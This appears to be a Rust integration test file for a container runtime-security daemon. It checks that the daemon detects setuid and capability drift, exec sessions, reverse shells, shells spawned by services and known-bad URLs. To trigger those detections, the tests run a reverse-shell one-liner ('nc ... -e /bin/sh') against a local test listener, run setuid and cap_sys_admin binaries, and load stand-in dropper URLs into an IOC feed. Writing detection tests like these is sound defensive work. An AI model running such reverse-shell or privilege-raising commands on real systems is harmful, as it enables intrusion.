//! Detections beyond drift, from the same held exec: what running a drift file grants
//! (set-user-ID, set-group-ID, file capabilities: MITRE T1548.001).

use std::time::Duration;

use super::response::{dg, stderr};
use crate::common::net::{host_ip, serve_once};
use crate::common::*;
use serde_json::Value;

const T: Duration = Duration::from_secs(60);

fn by_path<'a>(findings: &'a [Value], path: &str) -> &'a Value {
    findings
        .iter()
        .find(|f| f["file"]["path"] == path)
        .unwrap_or_else(|| panic!("no finding for {path}: {findings:#?}"))
}

fn has_t1548(f: &Value) -> bool {
    f["mitre"].as_array().unwrap().iter().any(|t| t == "T1548.001")
}

/// Drift that would run set-user-ID, set-group-ID or with file capabilities is refused like any
/// drift, and its finding says what it would have been granted, at HIGH; plain drift stays
/// LOW and says nothing of privilege.
#[test]
fn drift_that_raises_privilege_says_what_it_grants_at_high_severity() {
    if !privileged() {
        return;
    }
    let s = Scratch::new();
    let d = daemon_with(&s, "enforce", EVERY_FINDING);
    // The capability is set from the host, through the overlay (busybox has no setcap).
    let out = s.run_in_container("mkdir /tmp/cap && cp /opt/img/true /tmp/cap/true\necho ok=0\n", T);
    assert_eq!(results(&out)["ok"], 0, "{out:?}");
    let capped = s.merged.join("tmp/cap/true");
    let o = std::process::Command::new("setcap")
        .arg("cap_net_raw,cap_sys_admin+ep")
        .arg(&capped)
        .output()
        .unwrap();
    assert!(o.status.success(), "setcap: {}", String::from_utf8_lossy(&o.stderr));
    let out = s.run_in_container(
        "mkdir /tmp/uid /tmp/gid /tmp/plain\n\
         cp /opt/img/true /tmp/uid/true && chmod 4755 /tmp/uid/true && /tmp/uid/true; echo suid=$?\n\
         cp /opt/img/true /tmp/gid/true && chmod 2755 /tmp/gid/true && /tmp/gid/true; echo sgid=$?\n\
         /tmp/cap/true; echo cap=$?\n\
         cp /opt/img/true /tmp/plain/true && /tmp/plain/true; echo plain=$?\n",
        T,
    );
    let r = results(&out);
    for k in ["suid", "sgid", "cap", "plain"] {
        assert_eq!(r[k], 126, "{k} refused: {out:?}");
    }
    let f = d.findings(4);
    let su = by_path(&f, "/tmp/uid/true");
    assert_eq!(
        (su["severity"].as_str(), su["file"]["setuid"].as_bool()),
        (Some("HIGH"), Some(true)),
        "{su:#}"
    );
    assert!(su["file"].get("setgid").is_none() && has_t1548(su), "{su:#}");
    let sg = by_path(&f, "/tmp/gid/true");
    assert_eq!(
        (sg["severity"].as_str(), sg["file"]["setgid"].as_bool()),
        (Some("HIGH"), Some(true)),
        "{sg:#}"
    );
    let cap = by_path(&f, "/tmp/cap/true");
    assert_eq!(cap["file"]["capabilities"], serde_json::json!(["cap_net_raw", "cap_sys_admin"]), "{cap:#}");
    assert_eq!(cap["severity"], "HIGH");
    let plain = by_path(&f, "/tmp/plain/true");
    assert_eq!(plain["severity"], "LOW", "{plain:#}");
    assert!(plain["file"].get("setuid").is_none() && plain["file"].get("capabilities").is_none());
    assert!(!has_t1548(plain));
    // The exports carry it: OCSF (validated) and Falco.
    let spool = d.spool.to_str().unwrap();
    let o = dg(&["findings", "--spool-dir", spool, "--format", "ocsf"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let ocsf: Vec<Value> =
        String::from_utf8_lossy(&o.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let e = ocsf.iter().find(|e| e["unmapped"]["driftgate"]["file_setuid"] == true).expect("setuid in OCSF");
    assert!(ocsf_errors(e).is_empty(), "{:?}", ocsf_errors(e));
    let attacks = e["finding_info"]["attacks"].as_array().unwrap();
    assert!(
        attacks.iter().any(|a| a["technique"]["uid"] == "T1548.001" && a["tactic"]["uid"] == "TA0004"),
        "{e:#}"
    );
    let o = dg(&["findings", "--spool-dir", spool, "--format", "falco"]);
    let falco = String::from_utf8_lossy(&o.stdout);
    assert!(falco.contains("\"driftgate.file_capabilities\":\"cap_net_raw,cap_sys_admin\""), "{falco}");
}

/// In audit mode the same drift runs, and is recorded at HIGH. (The image's `true` is busybox,
/// which runs the applet its name says: each copy keeps the name `true`.)
#[test]
fn audited_setuid_drift_runs_and_is_recorded_at_high_severity() {
    if !privileged() {
        return;
    }
    let s = Scratch::new();
    let d = daemon_with(&s, "audit", EVERY_FINDING);
    let out = s.run_in_container(
        "mkdir /tmp/uid && cp /opt/img/true /tmp/uid/true && chmod 4755 /tmp/uid/true && /tmp/uid/true; echo suid=$?\n",
        T,
    );
    assert_eq!(results(&out)["suid"], 0, "ran: {out:?}");
    let f = d.findings(1);
    let su = by_path(&f, "/tmp/uid/true");
    assert_eq!((su["action"].as_str(), su["severity"].as_str()), (Some("audited"), Some("HIGH")), "{su:#}");
    assert_eq!(su["file"]["setuid"], true);
}

/// A process from the container's init is in session `init`; one whose topmost parent in the
/// container was entered from outside (`nsenter`, as `kubectl exec` and `docker exec` do
/// through the runtime) is in session `exec`, with its terminal when it has one.
#[test]
fn findings_tell_the_init_from_an_exec_session_and_name_the_terminal() {
    sessions_in("enforce");
}

/// The same, allowed: the parents are read after the answer, the direct one before it.
#[test]
fn audited_findings_tell_the_sessions_apart_too() {
    sessions_in("audit");
}

fn sessions_in(mode: &str) {
    if !privileged() {
        return;
    }
    let refused = mode == "enforce";
    let s = Scratch::new();
    let d = daemon_with(&s, mode, EVERY_FINDING);
    let c = Background::start(
        s.root(),
        &s.merged,
        "",
        "mkdir /tmp/init /tmp/exec /tmp/tty\n\
         cp /opt/img/true /tmp/exec/true; cp /opt/img/true /tmp/tty/true; cp /opt/img/true /tmp/init/true\n\
         /tmp/init/true\ntouch /ready\nwhile true; do sleep 1; done\n",
        &s.merged.join("ready"),
    );
    let pid = c.init_pid().expect("container init").to_string();
    let mut cmd = std::process::Command::new("nsenter");
    cmd.args(["-t", &pid, "-m", "-p", "-r", "/tmp/exec/true"]).stdin(std::process::Stdio::null());
    let out = run_with_deadline(cmd, T);
    assert_eq!(out.status.code(), Some(if refused { 126 } else { 0 }), "{out:?}");
    // Under a terminal: `script` gives the session a pseudo-terminal.
    let mut cmd = std::process::Command::new("script");
    cmd.args(["-qec", &format!("nsenter -t {pid} -m -p -r /tmp/tty/true"), "/dev/null"])
        .stdin(std::process::Stdio::null());
    let out = run_with_deadline(cmd, T);
    assert_eq!(out.status.success(), !refused, "{out:?}");
    let f = d.findings(3);
    let init = by_path(&f, "/tmp/init/true");
    assert_eq!(init["process"]["session"], "init", "{init:#}");
    assert!(init["process"].get("tty").is_none(), "no terminal: {init:#}");
    let exec = by_path(&f, "/tmp/exec/true");
    assert_eq!(exec["process"]["session"], "exec", "{exec:#}");
    assert!(exec["process"]["ancestors"].as_array().is_none_or(|a| a.is_empty()), "its parent is outside");
    let tty = by_path(&f, "/tmp/tty/true");
    assert_eq!(tty["process"]["session"], "exec", "{tty:#}");
    assert!(tty["process"]["tty"].as_str().is_some_and(|t| t.starts_with("pts/")), "{tty:#}");
    // OCSF names the terminal as the process's session; the kind is in `unmapped`.
    let o = dg(&["findings", "--spool-dir", d.spool.to_str().unwrap(), "--format", "ocsf"]);
    let ocsf: Vec<Value> =
        String::from_utf8_lossy(&o.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let e =
        ocsf.iter().find(|e| e["actor"]["process"]["session"]["terminal"].is_string()).expect("a terminal");
    assert_eq!(e["unmapped"]["driftgate"]["session"], "exec");
    assert!(ocsf_errors(e).is_empty(), "{:?}", ocsf_errors(e));
}

/// A container in the host's PID namespace (hostPID) has no PID 1 of its own, and its init's
/// parent is outside it like an exec session's: its findings say no session rather than guess.
#[test]
fn a_host_pid_containers_findings_name_no_session() {
    if !privileged() {
        return;
    }
    let s = Scratch::new();
    let d = daemon_with(&s, "enforce", EVERY_FINDING);
    let script = "mkdir /tmp/h && cp /opt/img/true /tmp/h/true && /tmp/h/true; echo rc=$?\n";
    let out = run_with_deadline(container_command_in(s.root(), &s.merged, "", script, false), T);
    assert_eq!(results(&out)["rc"], 126, "{out:?}");
    let f = d.findings(1);
    let h = by_path(&f, "/tmp/h/true");
    assert!(h["process"].get("session").is_none(), "{h:#}");
}

/// A shell started with its standard streams on a TCP connection to another machine is a
/// `REVERSE_SHELL` finding with both ends, refused where a rule says `detections =
/// "enforce"`; a shell on a loopback connection and a shell reading a pipe are not.
#[test]
fn a_shell_on_a_remote_connection_is_a_reverse_shell_and_loopback_and_pipes_are_not() {
    reverse_shells_in("enforce");
}

/// Without a rule, in audit mode (and by default in enforce mode too: it is not drift), it is
/// audited: the shell runs.
#[test]
fn audited_reverse_shells_are_found_the_same_way() {
    reverse_shells_in("audit");
}

fn reverse_shells_in(mode: &str) {
    if !privileged() {
        return;
    }
    let refused = mode == "enforce";
    let ip = host_ip();
    let s = Scratch::new();
    let rules = "[[policy.rules]]\nname = \"no-reverse-shells\"\ndetections = \"enforce\"\n";
    let d = daemon_with(&s, mode, &format!("{EVERY_FINDING}{}", if refused { rules } else { "" }));
    let remote = std::net::TcpListener::bind((ip, 0)).unwrap();
    let loopback = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let (rport, lport) = (remote.local_addr().unwrap().port(), loopback.local_addr().unwrap().port());
    let remote = serve_once(remote, "echo rs=$((6*7))\nexit\n");
    let loopback = serve_once(loopback, "echo lo=1\nexit\n");
    let out = s.run_in_container(
        &format!(
            "/bin/busybox nc {ip} {rport} -e /bin/sh\n/bin/busybox nc 127.0.0.1 {lport} -e /bin/sh\n\
             echo 'echo piped' | sh\necho done=0\n"
        ),
        T,
    );
    assert_eq!(results(&out)["done"], 0, "{out:?}");
    assert_eq!(remote.join().unwrap().contains("rs=42"), !refused, "the shell ran unless refused");
    assert!(loopback.join().unwrap().contains("lo=1"));
    let f = d.findings(1);
    std::thread::sleep(Duration::from_millis(500));
    let all = read_findings(&d.spool);
    let shells: Vec<&Value> = all.iter().filter(|f| f["category"] == "REVERSE_SHELL").collect();
    assert_eq!(shells.len(), 1, "only the remote one: {all:#?}");
    let r = shells[0];
    let (action, rule) = if refused { ("blocked", "no-reverse-shells") } else { ("audited", "detection") };
    assert_eq!((r["action"].as_str(), r["severity"].as_str()), (Some(action), Some("HIGH")), "{r:#}");
    assert_eq!(r["rule"], rule);
    assert_eq!(r["network"]["remote_address"], ip.to_string());
    assert_eq!(r["network"]["remote_port"], rport);
    assert_eq!(r["network"]["local_address"], ip.to_string(), "the same host here: {r:#}");
    assert!(r["network"]["fds"].as_array().unwrap().contains(&serde_json::json!(0)), "{r:#}");
    // The file is what ran (the shell's link resolved); the arguments say how it was invoked.
    assert_eq!(r["file"]["path"], "/bin/busybox");
    assert_eq!(r["process"]["args"][0], "/bin/sh");
    assert_eq!(r["mitre"], serde_json::json!(["T1059"]));
    assert!(f.iter().all(|f| f["category"] == "REVERSE_SHELL"), "no other finding: {f:#?}");
    // OCSF names both ends (validated), Falco as fd.rip and fd.rport.
    let spool = d.spool.to_str().unwrap();
    let o = dg(&["findings", "--spool-dir", spool, "--format", "ocsf"]);
    let e: Value = serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(e["evidences"][0]["dst_endpoint"], serde_json::json!({"ip": ip.to_string(), "port": rport}));
    assert!(ocsf_errors(&e).is_empty(), "{:?}", ocsf_errors(&e));
    let o = dg(&["findings", "--spool-dir", spool, "--format", "falco"]);
    let falco = String::from_utf8_lossy(&o.stdout);
    assert!(falco.contains(&format!("\"fd.rport\":{rport}")) && falco.contains("\"fd.rip\""), "{falco}");
}

/// `/usr/bin/awk` in the image (busybox, named awk): a language runtime whose `system()` runs
/// `sh -c`, the way a web application's command injection does.
fn with_awk() -> Scratch {
    Scratch::with_image_files(&[("/usr/bin/awk", std::path::Path::new(BUSYBOX))])
}

/// A shell started by a service of the image (here awk's `system()`) is an
/// `UNEXPECTED_CHILD_SHELL`, audited by default, with the service as the parent; a shell started
/// by a shell, by the container's init, or reading a pipe is not.
#[test]
fn a_shell_started_by_a_service_is_unexpected_and_by_a_shell_or_the_init_is_not() {
    if !privileged() {
        return;
    }
    let s = with_awk();
    let d = daemon_with(&s, "enforce", EVERY_FINDING);
    let out = s.run_in_container(
        "/usr/bin/awk 'BEGIN { r = system(\"echo svc=1\"); print \"awkrc=\" r }'\n\
         sh -c 'sh -c \"echo nested=1\"'\necho 'echo piped=1' | sh\necho done=0\n",
        T,
    );
    let r = results(&out);
    assert_eq!(
        (r["svc"], r["awkrc"], r["nested"], r["piped"]),
        (1, 0, 1, 1),
        "audited, not refused: {out:?}"
    );
    // The init itself starting a shell: its entrypoint.
    let out = s.run_in_container("exec /usr/bin/awk 'BEGIN { system(\"echo init=1\") }'\n", T);
    assert_eq!(results(&out)["init"], 1, "{out:?}");
    d.findings(1);
    std::thread::sleep(Duration::from_millis(500));
    let all = read_findings(&d.spool);
    assert_eq!(all.len(), 1, "only the service's shell: {all:#?}");
    let f = &all[0];
    assert_eq!(f["category"], "UNEXPECTED_CHILD_SHELL", "{f:#}");
    assert_eq!((f["action"].as_str(), f["severity"].as_str()), (Some("audited"), Some("MEDIUM")), "{f:#}");
    assert_eq!(f["process"]["parent"]["exe"], "/usr/bin/awk", "{f:#}");
    assert_eq!(f["process"]["args"][0], "sh");
    assert_eq!(f["process"]["session"], "init");
    assert_eq!(f["file"]["path"], "/bin/busybox");
    assert_eq!(f["rule"], "detection");
    assert_eq!(f["mitre"], serde_json::json!(["T1059", "T1059.004"]));
    let o = dg(&["findings", "--spool-dir", d.spool.to_str().unwrap(), "--format", "ocsf"]);
    let e: Value = serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert!(ocsf_errors(&e).is_empty(), "{:?}", ocsf_errors(&e));
}

/// Rules scope on sessions and on a shell's parent: `detections = "enforce"` for shells from
/// awk refuses them in the container's own processes, while a rule for exec sessions (first)
/// allows them there and audits drift there (refused elsewhere: enforce mode).
#[test]
fn rules_enforce_detections_and_scope_on_sessions_and_shell_parents() {
    if !privileged() {
        return;
    }
    let s = with_awk();
    let rules = "[[policy.rules]]\nname = \"debugging\"\nsessions = [\"exec\"]\naction = \"audit\"\n\
                 detections = \"allow\"\n\
                 [[policy.rules]]\nname = \"no-shells-from-awk\"\nshells = [\"awk\"]\ndetections = \"enforce\"\n";
    let d = daemon_with(&s, "enforce", &format!("{EVERY_FINDING}{rules}"));
    let c = Background::start(
        s.root(),
        &s.merged,
        "",
        "mkdir /tmp/i /tmp/e; cp /opt/img/true /tmp/i/true; cp /opt/img/true /tmp/e/true\n\
         /tmp/i/true; echo \"drift=$?\" > /tmp/rc\n\
         /usr/bin/awk 'BEGIN { r = system(\"exit 3\"); print \"awkrc=\" r }' >> /tmp/rc\n\
         touch /ready\nwhile true; do sleep 1; done\n",
        &s.merged.join("ready"),
    );
    let rc = std::fs::read_to_string(s.merged.join("tmp/rc")).unwrap();
    assert!(rc.contains("drift=126") && !rc.contains("awkrc=3"), "both refused in the init's session: {rc}");
    let pid = c.init_pid().expect("container init").to_string();
    let enter = |args: &[&str]| {
        let mut cmd = std::process::Command::new("nsenter");
        cmd.args(["-t", &pid, "-m", "-p", "-r"]).args(args).stdin(std::process::Stdio::null());
        run_with_deadline(cmd, T)
    };
    let out = enter(&["/tmp/e/true"]);
    assert_eq!(out.status.code(), Some(0), "drift audited in an exec session: {out:?}");
    let out = enter(&["/usr/bin/awk", "BEGIN { r = system(\"exit 3\"); print \"awkrc=\" r }"]);
    assert_eq!(results(&out)["awkrc"], 3, "the shell ran: {out:?}");
    d.findings(3);
    std::thread::sleep(Duration::from_millis(500));
    let all = read_findings(&d.spool);
    assert_eq!(all.len(), 3, "{all:#?}");
    let shell = all.iter().find(|f| f["category"] == "UNEXPECTED_CHILD_SHELL").expect("the init's");
    assert_eq!(
        (shell["action"].as_str(), shell["rule"].as_str()),
        (Some("blocked"), Some("no-shells-from-awk"))
    );
    assert_eq!(shell["process"]["session"], "init");
    let i = by_path(&all, "/tmp/i/true");
    assert_eq!((i["action"].as_str(), i["rule"].as_str()), (Some("blocked"), Some("global")), "{i:#}");
    let e = by_path(&all, "/tmp/e/true");
    assert_eq!((e["action"].as_str(), e["rule"].as_str()), (Some("audited"), Some("debugging")), "{e:#}");
    assert_eq!(e["process"]["session"], "exec");
}

/// An exec whose arguments hold a URL on a listed domain, or a listed URL, is a
/// `MALICIOUS_URL_OBSERVED` finding naming the URL, the indicator and the list; audited (the
/// program runs) by default, even where drift would be refused.
#[test]
fn a_listed_url_or_domain_in_the_arguments_is_malicious_url_observed() {
    listed_urls_with(false);
}

/// A rule that enforces detections refuses such an exec.
#[test]
fn rules_can_refuse_execs_that_name_a_listed_url() {
    listed_urls_with(true);
}

fn listed_urls_with(enforced: bool) {
    if !privileged() {
        return;
    }
    // The commands are in an image script: a command line that names a URL is itself an exec
    // whose arguments do (`sh -c "curl ..."`), and the container's init would be one.
    let tmp = tempfile::tempdir().unwrap();
    let fetch = tmp.path().join("fetch.sh");
    std::fs::write(
        &fetch,
        "#!/bin/sh\n/opt/img/true -fsSL https://cdn.EVIL.example/a.sh; echo a=$?\n\
         /opt/img/true 'http://198.51.100.9/bins/x86?v=2'; echo b=$?\n\
         /opt/img/true http://198.51.100.9/bins/arm https://example.org/evil.example /tmp/evil.example; echo c=$?\n",
    )
    .unwrap();
    let s = Scratch::with_image_files(&[("/opt/img/fetch.sh", &fetch)]);
    let list = s.root().join("network.txt");
    std::fs::write(
        &list,
        "# a feed\nevil.example dropper host\nhttp://198.51.100.9/bins/x86 mirai\n0.0.0.0 ads.example\n",
    )
    .unwrap();
    let rules =
        if enforced { "[[policy.rules]]\nname = \"no-bad-urls\"\ndetections = \"enforce\"\n" } else { "" };
    let tables = format!("{EVERY_FINDING}[ioc]\npaths = [{:?}]\n{rules}", list.display().to_string());
    let d = daemon_with(&s, "enforce", &tables);
    let out = s.run_in_container("/opt/img/fetch.sh\n", T);
    let r = results(&out);
    let rc = if enforced { 126 } else { 0 };
    assert_eq!((r["a"], r["b"], r["c"]), (rc, rc, 0), "{out:?}");
    d.findings(2);
    std::thread::sleep(Duration::from_millis(500));
    let all = read_findings(&d.spool);
    assert_eq!(all.len(), 2, "{all:#?}");
    let (action, rule) = if enforced { ("blocked", "no-bad-urls") } else { ("audited", "detection") };
    for f in &all {
        assert_eq!(f["category"], "MALICIOUS_URL_OBSERVED", "{f:#}");
        assert_eq!((f["action"].as_str(), f["rule"].as_str()), (Some(action), Some(rule)), "{f:#}");
        assert_eq!(f["severity"], "HIGH");
        assert_eq!(f["mitre"], serde_json::json!(["T1105"]));
        assert_eq!(f["file"]["path"], "/opt/img/true");
        assert_eq!(f["ioc"]["source"], list.display().to_string());
    }
    let domain = all.iter().find(|f| f["url"]["indicator"] == "evil.example").expect("the domain's");
    assert_eq!(domain["url"]["found"], "https://cdn.evil.example/a.sh", "{domain:#}");
    assert_eq!(
        (domain["url"]["host"].as_str(), domain["url"]["argument"].as_u64()),
        (Some("cdn.evil.example"), Some(2))
    );
    assert_eq!(domain["ioc"]["name"], "dropper host");
    assert_eq!(domain["process"]["args"][2], "https://cdn.EVIL.example/a.sh");
    let url =
        all.iter().find(|f| f["url"]["indicator"] == "http://198.51.100.9/bins/x86").expect("the URL's");
    assert_eq!(url["ioc"]["name"], "mirai");
    let st = d.status();
    assert!(st["decisions"]["url_checks"].as_u64().unwrap() >= 3, "{st}");
    assert_eq!(st["decisions"]["url_unread"], 0);
    let o = dg(&["findings", "--spool-dir", d.spool.to_str().unwrap(), "--format", "ocsf"]);
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let e: Value = serde_json::from_str(line).unwrap();
        assert!(e["evidences"][0]["url"]["url_string"].is_string(), "{e:#}");
        assert!(ocsf_errors(&e).is_empty(), "{:?}", ocsf_errors(&e));
    }
}

/// An image program that runs set-user-ID root, or with a file capability, run by a user that
/// gains by it is `PRIVILEGED_PROGRAM_EXECUTED` (audited by default); run by root, which gains
/// nothing, it is not.
#[test]
fn image_programs_that_raise_their_callers_privilege_are_reported() {
    privileged_programs(false);
}

/// A rule that enforces detections in exec sessions refuses them there.
#[test]
fn rules_can_refuse_image_programs_that_raise_privilege() {
    privileged_programs(true);
}

fn privileged_programs(enforced: bool) {
    if !privileged() {
        return;
    }
    let busybox = std::path::Path::new(BUSYBOX);
    let mut s = Scratch::with_image_files(&[("/opt/suid/true", busybox), ("/opt/caps/true", busybox)]);
    s.umount();
    let lower = s.lower();
    std::fs::set_permissions(
        lower.join("opt/suid/true"),
        std::os::unix::fs::PermissionsExt::from_mode(0o4755),
    )
    .unwrap();
    let out = std::process::Command::new("setcap")
        .arg("cap_net_raw+ep")
        .arg(lower.join("opt/caps/true"))
        .output()
        .unwrap();
    assert!(out.status.success(), "setcap: {out:?}");
    s.mount();
    let rules =
        "[[policy.rules]]\nname = \"no-escalation\"\nsessions = [\"exec\"]\ndetections = \"enforce\"\n";
    let d = daemon_with(&s, "audit", &format!("{EVERY_FINDING}{}", if enforced { rules } else { "" }));
    let c = Background::start(
        s.root(),
        &s.merged,
        "",
        "/opt/suid/true && /opt/caps/true && touch /ready\nwhile true; do sleep 1; done\n",
        &s.merged.join("ready"),
    );
    let pid = c.init_pid().expect("container init").to_string();
    for program in ["/opt/suid/true", "/opt/caps/true"] {
        let mut cmd = std::process::Command::new("nsenter");
        cmd.args(["-t", &pid, "-m", "-p", "-r", "-S", "1000", "-G", "1000", program])
            .stdin(std::process::Stdio::null());
        let out = run_with_deadline(cmd, T);
        assert_eq!(out.status.code(), Some(if enforced { 126 } else { 0 }), "{program}: {out:?}");
    }
    d.findings(2);
    std::thread::sleep(Duration::from_millis(500));
    let all = read_findings(&d.spool);
    assert_eq!(all.len(), 2, "user 1000's two, not root's: {all:#?}");
    let (action, rule) = if enforced { ("blocked", "no-escalation") } else { ("audited", "detection") };
    for f in &all {
        assert_eq!(f["category"], "PRIVILEGED_PROGRAM_EXECUTED", "{f:#}");
        assert_eq!((f["action"].as_str(), f["rule"].as_str()), (Some(action), Some(rule)), "{f:#}");
        assert_eq!((f["severity"].as_str(), f["process"]["uid"].as_u64()), (Some("MEDIUM"), Some(1000)));
        assert_eq!(f["process"]["session"], "exec");
        assert!(has_t1548(f));
    }
    let suid = by_path(&all, "/opt/suid/true");
    assert_eq!(
        (suid["file"]["setuid"].as_bool(), suid["file"].get("capabilities")),
        (Some(true), None),
        "{suid:#}"
    );
    assert!(suid["reason"].as_str().unwrap().contains("gain user 0"), "{suid:#}");
    let caps = by_path(&all, "/opt/caps/true");
    assert_eq!(caps["file"]["capabilities"], serde_json::json!(["cap_net_raw"]), "{caps:#}");
    assert!(caps["file"].get("setuid").is_none_or(|v| v == false), "{caps:#}");
}
